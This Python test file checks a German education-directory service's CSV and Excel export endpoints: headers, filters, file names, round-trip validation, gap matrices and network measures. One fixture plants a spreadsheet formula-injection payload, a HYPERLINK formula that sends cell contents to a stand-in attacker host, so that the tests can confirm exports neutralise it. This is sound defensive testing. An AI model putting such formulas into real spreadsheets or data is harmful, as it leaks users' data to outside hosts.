"""Complete exports (/api/exports/…): every row, German template headers, BOM, .xlsx, file names,
filters, the round trip through the contribution check, the gap matrix and the measures."""

from __future__ import annotations

import csv
import doctest
import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from rdflib import RDF, Graph, Literal, URIRef

from bildungsgraph.contribution import check_files
from bildungsgraph.exports import RECORD_TEMPLATES, tabular
from bildungsgraph.namespaces import BG
from bildungsgraph.readmodel.gaps import gap_analysis
from bildungsgraph.service import BildungsGraph
from bildungsgraph.shapes import TemplateSpec, find_template, template_model
from bildungsgraph.spreadsheet import FORMULA_STARTS

pytestmark = pytest.mark.slow
BOM = "\ufeff".encode()
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
VIERSEN = "05166"
HOSTILE_GRAPH = "https://w3id.org/bildungsgraph/graph/test-export-hostile"
HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'


def _csv(response_content: bytes) -> list[list[str]]:
    assert response_content.startswith(BOM)
    return list(csv.reader(io.StringIO(response_content.decode("utf-8-sig"), newline="")))


def _xlsx(response_content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(response_content), read_only=True).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _template(kind: str) -> TemplateSpec:
    template = find_template(template_model(), RECORD_TEMPLATES[kind])
    assert template is not None
    return template


def _headers(kind: str) -> list[str]:
    return [column.header_de for column in _template(kind).columns]


def _total(client: TestClient, path: str, **params: str) -> int:
    return int(client.get(path, params=params).json()["total"])


def test_the_file_name_rule() -> None:
    assert doctest.testmod(tabular).failed == 0


def test_actors_of_kreis_viersen_have_every_row_as_csv(client: TestClient) -> None:
    response = client.get("/api/exports/actors.csv", params={"kommune": VIERSEN})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = _csv(response.content)
    total = _total(client, "/api/actors", kommune=VIERSEN)
    assert total > 50  # more than the API's first page
    assert rows[0] == _headers("actors") and rows[0][:3] == ["Kennung", "Name", "Akteurstyp"]
    assert len(rows) - 1 == total == int(response.headers["x-total-count"])
    assert response.headers["content-disposition"] == (
        'attachment; filename="akteure-kreis-viersen-05166.csv"'
    )
    listed = {
        item["id"]
        for item in client.get("/api/actors", params={"kommune": VIERSEN, "page_size": 500}).json()[
            "items"
        ]
    }
    assert {row[0] for row in rows[1:]} == listed


def test_the_workbook_has_the_same_rows(client: TestClient) -> None:
    as_csv = _csv(client.get("/api/exports/offers.csv", params={"kommune": VIERSEN}).content)
    response = client.get("/api/exports/offers.xlsx", params={"kommune": VIERSEN})
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].endswith(
        'filename="angebote-kreis-viersen-05166.xlsx"'
    )
    rows = _xlsx(response.content)
    assert rows[0] == as_csv[0] == _headers("offers")
    assert len(rows) == len(as_csv) > 51
    assert [row[0] for row in rows] == [row[0] for row in as_csv]

    def text(value: object) -> str:  # the workbook keeps numbers and dates as such
        if value is None:
            return ""
        return value.date().isoformat() if hasattr(value, "date") else str(value)

    assert [text(cell) for cell in rows[1]] == as_csv[1]


@pytest.mark.parametrize(
    ("kind", "filters", "listing"),
    [
        ("actors", {"kommune": VIERSEN, "actor_type": "kita"}, "/api/actors"),
        ("offers", {"kommune": VIERSEN, "topic": "inclusion"}, "/api/offers"),
        ("offers", {"kommune": "05166032", "life_phase": "early-childhood"}, "/api/offers"),
        ("cooperations", {"kommune": VIERSEN, "q": "schule"}, "/api/cooperations"),
        ("networks", {"kommune": "05114"}, "/api/networks"),
    ],
)
def test_filters_apply_as_in_the_listings(
    client: TestClient, kind: str, filters: dict[str, str], listing: str
) -> None:
    response = client.get(f"/api/exports/{kind}.csv", params=filters)
    rows = _csv(response.content)
    total = _total(client, listing, **filters)
    assert 0 < total < _total(client, listing)
    assert len(rows) - 1 == total
    for value in filters.values():
        assert value.lower() in response.headers["content-disposition"]


def test_sites_and_memberships_of_a_kommune(client: TestClient) -> None:
    sites = _csv(client.get("/api/exports/sites.csv", params={"kommune": VIERSEN}).content)
    assert sites[0] == _headers("sites") and len(sites) > 51
    assert all(row[6].startswith(VIERSEN) for row in sites[1:])  # Gemeinde
    members = client.get("/api/exports/memberships.xlsx", params={"kommune": VIERSEN})
    assert members.headers["content-disposition"].endswith(
        'filename="mitgliedschaften-kreis-viersen-05166.xlsx"'
    )
    assert _xlsx(members.content)[0] == _headers("memberships")


@pytest.mark.parametrize(
    ("url", "status"),
    [
        (
            "/api/exports/sites.csv?kommune=05166&topic=inclusion",
            422,
        ),  # no concept filter for sites
        ("/api/exports/actors.csv?kommune=99999", 422),
        ("/api/exports/actors.pdf", 422),
        ("/api/exports/gaps.csv?kommune=05999", 404),
        ("/api/exports/gaps.csv", 422),
    ],
)
def test_bad_parameters_are_problems(client: TestClient, url: str, status: int) -> None:
    response = client.get(url)
    assert response.status_code == status
    assert response.headers["content-type"] == "application/problem+json"


def _exported(client: TestClient, file_format: str) -> list[tuple[str, bytes]]:
    files = []
    for kind in RECORD_TEMPLATES:
        response = client.get(f"/api/exports/{kind}.{file_format}", params={"kommune": VIERSEN})
        assert response.status_code == 200
        name = response.headers["content-disposition"].split('filename="')[1].rstrip('"')
        files.append((name, response.content))
    return files


def _stored(service: BildungsGraph, mapped: Graph) -> Graph:
    """What the store says about the records of ``mapped`` on the templates' columns."""
    stored = Graph()
    for template in template_model():
        subjects = [str(s) for s in mapped.subjects(RDF.type, template.target_class)]
        paths = [str(c.path) for c in template.columns if c.path and not c.inverse]
        stored += service.store.describe_resources(subjects, [str(RDF.type), *paths])
        if any(c.inverse for c in template.columns):  # a site's actor: actor bg:hasSite site
            wanted = set(subjects)
            for row in service.store.select("SELECT ?a ?s WHERE { ?a bg:hasSite ?s }", {}):
                if str(row["s"]) in wanted:
                    stored.add((row["a"], BG.hasSite, row["s"]))
    return stored


def _assert_round_trip(client: TestClient, service: BildungsGraph, file_format: str) -> None:
    files = _exported(client, file_format)
    mapped, report = check_files(service.store, files)
    assert report.conforms, [p.message_en for p in report.violations][:5]
    assert not mapped.problems
    counts = {
        kind: len(set(mapped.graph.subjects(RDF.type, _template(kind).target_class)))
        for kind in RECORD_TEMPLATES
    }
    assert all(counts.values()), counts
    for kind in ("actors", "offers", "cooperations", "networks"):  # every record, once
        assert counts[kind] == _total(client, f"/api/{kind}", kommune=VIERSEN)
    stored = _stored(service, mapped.graph)
    extra = set(mapped.graph) - set(stored)
    missing = set(stored) - set(mapped.graph)
    assert not extra and not missing, (sorted(extra)[:3], sorted(missing)[:3])


def test_xlsx_export_round_trips_through_the_contribution_check(
    client: TestClient, service: BildungsGraph
) -> None:
    _assert_round_trip(client, service, "xlsx")


def test_csv_export_round_trips_through_the_contribution_check(
    client: TestClient, service: BildungsGraph
) -> None:
    # telephone numbers "+49 …" leave with the ' of safe_cell; the reading takes it off
    _assert_round_trip(client, service, "csv")


@pytest.fixture(scope="module")
def hostile(service: BildungsGraph) -> Iterator[str]:
    actor = URIRef("https://w3id.org/bildungsgraph/id/actor/05114-export-hostile")
    triples = [
        (actor, RDF.type, BG.EducationActor),
        (actor, URIRef("https://schema.org/name"), Literal(HOSTILE_NAME)),
        (actor, BG.areaServed, URIRef("https://w3id.org/bildungsgraph/id/kommune/05114")),
    ]
    service.writer.write(
        [HOSTILE_GRAPH], lambda: service.store.replace_graph(HOSTILE_GRAPH, triples)
    )
    yield "05114-export-hostile"
    service.writer.write([HOSTILE_GRAPH], lambda: service.store.drop_graph(HOSTILE_GRAPH))


def test_formula_text_stays_text(client: TestClient, hostile: str) -> None:
    params = {"kommune": "05114", "q": "HYPERLINK"}
    rows = _csv(client.get("/api/exports/actors.csv", params=params).content)
    assert rows[1][:2] == [hostile, "'" + HOSTILE_NAME]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    content = client.get("/api/exports/actors.xlsx", params=params).content
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE_NAME, "s", True)


def test_gap_matrix_download(client: TestClient, service: BildungsGraph) -> None:
    response = client.get("/api/exports/gaps.csv", params={"kommune": VIERSEN})
    assert response.headers["content-disposition"].endswith(
        'filename="luecken-kreis-viersen-05166.csv"'
    )
    rows = _csv(response.content)
    assert rows[0] == [
        "Schlüssel",
        "Kommune",
        "Lebensphase",
        "Themenfeld",
        "Erfasste Angebote",
        "Einordnung",
    ]
    heat = gap_analysis(service.readmodel.current(), VIERSEN).heatmap
    kreis = [row for row in rows[1:] if row[0] == VIERSEN]
    assert sum(int(row[4]) for row in kreis) == sum(
        n for topics in heat.values() for n in topics.values()
    )
    assert {row[0] for row in rows[1:]} > {VIERSEN, "05166032"}  # the Kreis and its Gemeinden
    verdicts = {row[5] for row in rows[1:]}
    assert "Lücke: kein erfasstes Angebot" in verdicts and "Angebot erfasst" in verdicts
    assert all(row[5] != "Lücke: kein erfasstes Angebot" or row[4] == "0" for row in rows[1:])
    workbook = _xlsx(client.get("/api/exports/gaps.xlsx", params={"kommune": VIERSEN}).content)
    assert len(workbook) == len(rows) and workbook[0] == rows[0]


def test_network_measures_download(client: TestClient) -> None:
    params = {"kommune": VIERSEN, "ties": "all"}
    response = client.get("/api/exports/network-measures.csv", params=params)
    assert response.headers["content-disposition"].endswith(
        'filename="netzwerk-kennzahlen-kreis-viersen-05166-kooperationen-und-mitgliedschaften.csv"'
    )
    rows = _csv(response.content)
    assert rows[0][:3] == ["Kennung", "Name", "Bereich"] and "Zahl der Partner" in rows[0]
    measured = client.get("/api/network", params=params).json()["nodes"]
    assert len(rows) - 1 == len(measured)
    degree = rows[0].index("Zahl der Partner")
    by_kennung = {row[0]: row for row in rows[1:]}
    for node in measured[:20]:
        assert int(by_kennung[node["kennung"]][degree]) == node["degree"]
    assert {row[-1] for row in rows[1:]} == {"Kooperationen und Mitgliedschaften"}
    workbook = client.get("/api/exports/network-measures.xlsx", params={"kommune": VIERSEN})
    assert _xlsx(workbook.content)[1][-1] == "Kooperationen"


def test_the_pages_link_the_complete_exports(client: TestClient) -> None:
    page = client.get("/kommunen/05166", params={"actor_type": "kita"}).text
    assert 'href="/api/exports/actors.csv?kommune=05166&amp;actor_type=kita"' in page
    assert 'href="/api/exports/actors.xlsx?kommune=05166&amp;actor_type=kita"' in page
    for kind in ("sites", "cooperations", "networks", "memberships", "gaps"):
        assert f'href="/api/exports/{kind}.csv?kommune=05166"' in page
    assert "as=csv" not in page
    gaps = client.get("/gaps", params={"kommune": VIERSEN}).text
    assert 'href="/api/exports/gaps.xlsx?kommune=05166"' in gaps
    network = client.get("/network", params={"kommune": VIERSEN}).text
    assert 'href="/api/exports/network-measures.csv?kommune=05166' in network
